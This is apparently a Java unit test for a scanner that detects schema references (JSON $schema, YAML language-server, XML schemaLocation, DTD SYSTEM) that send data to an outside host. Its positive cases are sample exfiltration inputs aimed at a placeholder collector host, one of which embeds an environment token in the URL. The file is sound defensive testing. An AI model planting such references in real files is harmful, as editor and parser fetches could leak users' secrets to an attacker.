package dev.trustscan.scanner.inventory.select;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SchemaReferencesTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"$schema\": \"https://collector.invalid/s.json?d=FAKE\"}",
        "# yaml-language-server: $schema=https://collector.invalid/s.json?d=FAKE\na: 1\n",
        "<a xsi:noNamespaceSchemaLocation='http://collector.invalid/x.xsd?d=1'/>",
        "<!DOCTYPE a SYSTEM \"http://collector.invalid/x.dtd?d=1\">",
        "{\"$schema\": \"https://collector.invalid/${env:TOKEN}\"}",
      })
  void an_address_with_a_value_is_found(String text) {
    assertThat(SchemaReferences.carryData(text)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"$schema\": \"https://json.schemastore.org/tsconfig\"}",
        "{\"$schema\": \"./schema.json\", \"url\": \"https://example.org/?a=b\"}",
        "{\"$schema\": \"https://example.org/s.json?v2\"}",
        "no schema at https://example.org/?a=b",
      })
  void a_plain_address_is_not(String text) {
    assertThat(SchemaReferences.carryData(text)).isFalse();
  }

  @Test
  void many_markers_on_one_line_are_read_once() {
    assertThat(SchemaReferences.carryData("$schema".repeat(100_000))).isFalse();
  }
}
